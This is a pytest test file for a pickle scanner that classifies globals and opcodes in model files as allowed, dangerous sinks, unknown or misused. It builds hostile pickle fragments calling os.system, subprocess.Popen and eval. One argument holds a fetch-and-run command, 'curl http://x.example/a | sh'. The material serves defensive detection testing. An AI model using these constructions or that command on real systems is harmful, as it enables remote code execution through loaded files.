from __future__ import annotations

import pytest
from tests.formats.assemble import (
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    NONE,
    SHELL,
    call,
    data,
    fetch,
    number,
    pickle,
    run,
    stack_fetch,
    storage,
    text,
    tup,
)  # fmt: skip

from modelward.formats.pickle.judge import MAX_NAME, Judgement, Opinion, judge
from modelward.formats.pickle.reach import instance_class
from modelward.formats.pickle.values import Global, Made


def judged(*parts: bytes, torch: bool = False) -> list[Judgement]:
    result, events = run(pickle(*parts))
    assert result.trouble is None
    return [found for event in events if (found := judge(event, torch=torch)).opinion is not Opinion.ALLOWED]


@pytest.mark.parametrize(
    ("parts", "subject"),
    [
        ((SHELL,), "posix.system"),
        ((call("__builtin__", "eval", text("1")),), "__builtin__.eval"),
        ((b"(", text("id"), b"ios\nsystem\n"), "os.system"),
        ((b"(", fetch("os", "system"), text("id"), b"o"), "os.system"),
        ((fetch("subprocess", "Popen"), tup(text("id")), b"\x81"), "subprocess.Popen"),
        ((stack_fetch("pathlib", "os.system"), tup(text("id")), b"R"), "pathlib.os.system"),
        ((fetch("os", "system"), b"0", NONE), "os.system"),
    ],
)
def test_sinks_are_known_however_they_are_reached(parts: tuple[bytes, ...], subject: str) -> None:
    found = judged(*parts)
    assert {judgement.opinion for judgement in found} == {Opinion.SINK}
    assert {judgement.subject for judgement in found} == {subject}


@pytest.mark.parametrize(
    "parts",
    [
        (fetch("sklearn.svm", "SVC"),),
        (stack_fetch("collections", "OrderedDict.pop"),),
        (fetch("collections", "x" * (MAX_NAME + 1)),),
        (fetch("torch._utils", "_rebuild_tensor_v9"),),
        (b"\x82\x01",),
    ],
)
def test_what_is_on_no_list_is_unknown(parts: tuple[bytes, ...]) -> None:
    assert [judgement.opinion for judgement in judged(*parts)] == [Opinion.UNKNOWN]


@pytest.mark.parametrize(
    "parts",
    [
        (fetch("numpy", "dtype"), EMPTY_DICT, b"b"),
        (fetch("collections", "OrderedDict"), text("k"), NONE, b"s"),
        (fetch("collections", "OrderedDict"), NONE, b"a"),
        (fetch("collections", "OrderedDict"), b"(", NONE, b"\x90"),
    ],
)
def test_changing_a_global_in_place_is_noticed_even_if_it_is_an_allowed_one(parts: tuple[bytes, ...]) -> None:
    assert [judgement.opinion for judgement in judged(*parts)] == [Opinion.CHANGES_GLOBAL]


@pytest.mark.parametrize(
    "parts",
    [
        (call("collections", "OrderedDict"), tup(), b"R"),
        (text("id"), b"Q", tup(), b"R"),
        (EMPTY_DICT, EMPTY_DICT, b"b"),
        (call("_codecs", "encode", text("a"), text("latin1")), NONE, b"a"),
        (EMPTY_DICT, NONE, b"a"),
        (b"\x97",),
        (storage(),),
    ],
)
def test_calls_and_changes_of_what_cannot_be_told_are_refused(parts: tuple[bytes, ...]) -> None:
    assert Opinion.MISUSED in {judgement.opinion for judgement in judged(*parts)}


def test_persistent_id_of_a_storage_is_allowed_in_a_checkpoint_only() -> None:
    assert judged(storage(), torch=True) == []
    assert [found.subject for found in judged(storage())] == ["a persistent id"]
    assert [found.subject for found in judged(text("x"), b"Q", torch=True)] == ["a persistent id"]


def test_pickle_given_by_name_is_handed_on() -> None:
    given = EMPTY_DICT + text("data") + data(b"\x80\x04N.") + b"s"
    _, events = run(pickle(fetch("mylib", "Net"), EMPTY_TUPLE, given, b"\x92"))
    assert judge(events[-1]).nested == b"\x80\x04N."


@pytest.mark.parametrize(
    ("parts", "allowed"),
    [
        ((b"(", fetch("sklearn.svm._classes", "SVC"), b"o"), True),  # made bare
        ((b"(isklearn.svm._classes\nSVC\n",), True),
        ((b"(", fetch("sklearn.svm._classes", "SVC"), number(1), b"o"), False),  # called
        ((b"(", number(1), b"isklearn.svm._classes\nSVC\n"), False),
        ((b"(", fetch("torch.nn.utils.rnn", "PackedSequence"), NONE, b"o"), False),  # for NEWOBJ only
        ((fetch("torch.nn.utils.rnn", "PackedSequence"), tup(NONE), b"\x81"), True),
        ((b"(", fetch("collections", "OrderedDict"), b"o"), False),  # for calls only
        ((b"(", fetch("collections", "OrderedDict"), EMPTY_LIST, b"o"), True),
    ],
)
def test_obj_and_inst_call_a_class_if_there_are_arguments(parts: tuple[bytes, ...], allowed: bool) -> None:
    assert (judged(*parts) == []) is allowed


@pytest.mark.parametrize(
    ("parts", "allowed"),
    [
        ((call("mylib", "Net"),), True),
        (
            (call("copyreg", "_reconstructor", fetch("mylib", "Net"), fetch("builtins", "object"), NONE),),
            True,
        ),
        ((call("mylib", "Net", text("curl http://x.example/a | sh")),), False),
        ((call("mylib", "Other"),), False),
        ((call("posix", "system", text("id")),), False),
    ],
)
def test_pin_takes_back_that_a_global_is_unknown_and_nothing_else(
    parts: tuple[bytes, ...], allowed: bool
) -> None:
    pins = frozenset({"mylib.Net", "posix.system"})
    opinions = {judge(event, pinned=pins).opinion for event in run(pickle(*parts))[1]}
    assert (opinions == {Opinion.ALLOWED}) is allowed


def test_nested_pickle_is_handed_on() -> None:
    _, events = run(pickle(call("torch.storage", "_load_from_bytes", data(b"inner"))))
    assert judge(events[-1]).nested == b"inner"


def test_class_of_an_instance() -> None:
    def made(*parts: bytes) -> Global | None:
        value = run(pickle(*parts))[0].value
        assert isinstance(value, Made)
        return instance_class(value)

    namespace = made(
        call("copyreg", "_reconstructor", fetch("argparse", "Namespace"), fetch("builtins", "object"), NONE)
    )
    assert namespace is not None
    assert namespace.qualname == "argparse.Namespace"
    assert made(fetch("m", "C"), EMPTY_TUPLE, b"R") is not None
    assert made(number(1), EMPTY_TUPLE, b"R") is None
